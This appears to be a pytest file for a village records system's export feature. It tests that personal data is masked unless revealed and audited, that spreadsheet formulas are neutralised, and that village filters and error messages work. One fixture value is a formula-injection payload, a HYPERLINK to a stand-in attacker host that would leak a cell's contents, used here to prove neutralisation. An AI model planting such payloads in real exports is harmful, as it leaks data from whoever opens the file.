"""Exports: personal data masked unless revealed (and then audited), formulas neutralised,
files Excel and openpyxl open, filters by village."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from shared.core.errors import DomainError
from shared.core.spreadsheets import neutralise
from shared.models import AuditLog, Residence
from shared.reporting.exports import EXPORTS, export_table
from tests.factories import (
    make_building,
    make_facility,
    make_id_number,
    make_organisation,
    make_person,
    make_plate,
    make_room,
    make_village,
)

ID_NUMBER = make_id_number("441900", "19700315", "123")
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def read_xlsx(path: Path) -> list[list[object]]:
    workbook = load_workbook(path, read_only=True)
    try:
        return [list(r) for r in workbook.worksheets[0].iter_rows(values_only=True)]
    finally:
        workbook.close()


@pytest.fixture
def town(session: Session) -> dict[str, object]:
    """Two villages; in the first a building with an owner who lives in its room."""
    v1, v2 = make_village(session, name="麻一村"), make_village(session, name="东太村")
    p1, p2 = make_plate(session, village=v1), make_plate(session, village=v2)
    owner = make_person(session, name="陈大文", id_number=ID_NUMBER, phone="+8613800138000")
    building = make_building(session, plate=p1, owner=owner)
    room = make_room(session, building=building, number="301", is_rental=True)
    make_room(session, building=make_building(session, plate=p2), number="101")
    session.add(Residence(person_id=owner.id, room_id=room.id, since=date(2020, 1, 1), reason="11"))
    make_person(session, name=INJECTION)
    make_organisation(session, name="@SUM(A1:A9)", plate=p2, legal_rep="-李四", phone="+8676922345678")
    make_facility(session, plate=p1)
    session.commit()
    return {"v1": v1, "v2": v2, "owner": owner}


def test_people_are_masked_by_default(session: Session, town: dict[str, object], tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    assert export_table(session, what="people", path=path, actor="officer1") == 2
    header, first, _ = read_csv(path)
    row = dict(zip(header, first, strict=True))
    assert row["姓名 name"] == "陈**"
    assert row["证件号码 id number"] == "441***********" + ID_NUMBER[-4:]
    assert row["电话 phone"] == "138****8000"
    assert row["出生日期 birth date"] == "1970"
    assert (row["性别代码 sex code"], row["性别 sex"]) == ("1", "男 Male")
    assert row["现住房号 room"] == "301"
    text = path.read_text(encoding="utf-8-sig")
    assert ID_NUMBER not in text and "13800138000" not in text and "陈大文" not in text
    entry = session.scalars(select(AuditLog)).one()
    assert (entry.action, entry.target_id, entry.detail["rows"], entry.detail["revealed"]) == (
        "export", "people", 2, False
    )  # fmt: skip


def test_reveal_exports_clear_values_and_is_audited(
    session: Session, town: dict[str, object], tmp_path: Path
) -> None:
    path = tmp_path / "people.xlsx"
    export_table(session, what="people", path=path, actor="admin", reveal=True)
    header, first, *_ = read_xlsx(path)
    row = dict(zip(header, first, strict=True))
    assert (row["姓名 name"], row["证件号码 id number"], row["电话 phone"]) == (
        "陈大文",
        ID_NUMBER,
        "138 0013 8000",
    )
    entry = session.scalars(select(AuditLog)).one()
    assert (entry.actor, entry.action, entry.detail["revealed"]) == ("admin", "export.reveal", True)
    assert ID_NUMBER not in str(entry.detail)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_cells_are_neutralised(
    session: Session, town: dict[str, object], tmp_path: Path, suffix: str
) -> None:
    people, orgs = tmp_path / f"people{suffix}", tmp_path / f"orgs{suffix}"
    export_table(session, what="people", path=people, actor="admin", reveal=True)
    export_table(session, what="organisations", path=orgs, actor="admin", reveal=True)
    reader = read_csv if suffix == ".csv" else read_xlsx
    names = [r[1] for r in reader(people)[1:]]
    assert "'" + INJECTION in names
    org = reader(orgs)[1]
    assert org[2] == "'@SUM(A1:A9)" and org[8] == "'-李四"
    assert org[10] == "0769 2234 5678"
    if suffix == ".xlsx":  # openpyxl keeps no formula: the cell is plain text
        workbook = load_workbook(people)
        assert all(c.data_type != "f" for row in workbook.worksheets[0].iter_rows() for c in row)


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+86", "'+86"), ("-5", "'-5"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("ok", "ok"), (-5, -5), (None, None)],
)  # fmt: skip
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected  # type: ignore[arg-type]


@pytest.mark.parametrize("what", sorted(EXPORTS))
def test_every_export_writes_xlsx_that_openpyxl_opens(
    session: Session, town: dict[str, object], tmp_path: Path, what: str
) -> None:
    path = tmp_path / f"{what}.xlsx"
    count = export_table(session, what=what, path=path, actor="admin")
    rows = read_xlsx(path)
    assert len(rows) == count + 1 and tuple(rows[0]) == EXPORTS[what].headers
    assert not list(tmp_path.glob(".*.part"))


def test_code_list_columns_carry_code_and_label(
    session: Session, town: dict[str, object], tmp_path: Path
) -> None:
    path = tmp_path / "rooms.csv"
    export_table(session, what="rooms", path=path, actor="admin")
    header, *rows = read_csv(path)
    # Room 301, the let one: rows follow plate codes, and a factory's village codes wrap around.
    [row] = [r for r in (dict(zip(header, cells, strict=True)) for cells in rows) if r["房号 room"] == "301"]
    assert (row["用途代码 use code"], row["用途 use"], row["出租 rental"]) == (
        "01",
        "住宅 Residential",
        "是 yes",
    )
    assert row["现住人数 current residents"] == "1"


def test_village_filter(session: Session, town: dict[str, object], tmp_path: Path) -> None:
    v1 = town["v1"].code  # type: ignore[attr-defined]
    path = tmp_path / "rooms.csv"
    assert export_table(session, what="rooms", path=path, actor="admin", village=v1) == 1
    assert export_table(session, what="people", path=tmp_path / "p.csv", actor="admin", village=v1) == 1
    assert export_table(session, what="facilities", path=tmp_path / "f.csv", actor="admin", village=v1) == 1
    assert (
        export_table(session, what="organisations", path=tmp_path / "o.csv", actor="admin", village=v1) == 0
    )


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"what": "secrets"}, "Cannot export 'secrets'"),
        ({"what": "people", "path": Path("out.pdf")}, "must end in .csv or .xlsx"),
        ({"what": "people", "village": "999"}, "Village code 999 does not exist"),
        ({"what": "audit", "village": "999"}, "cannot be filtered by village"),
        ({"what": "people", "path": Path("/nonexistent-dir/x.csv")}, "Folder does not exist"),
    ],
)
def test_bad_requests_are_refused_clearly(
    session: Session, tmp_path: Path, kwargs: dict[str, object], message: str
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    args: dict[str, object] = {"path": out / "out.csv", "actor": "admin", **kwargs}
    if not Path(str(args["path"])).is_absolute():
        args["path"] = out / str(args["path"])
    with pytest.raises(DomainError, match=message):
        export_table(session, **args)  # type: ignore[arg-type]
    assert not list(out.iterdir())
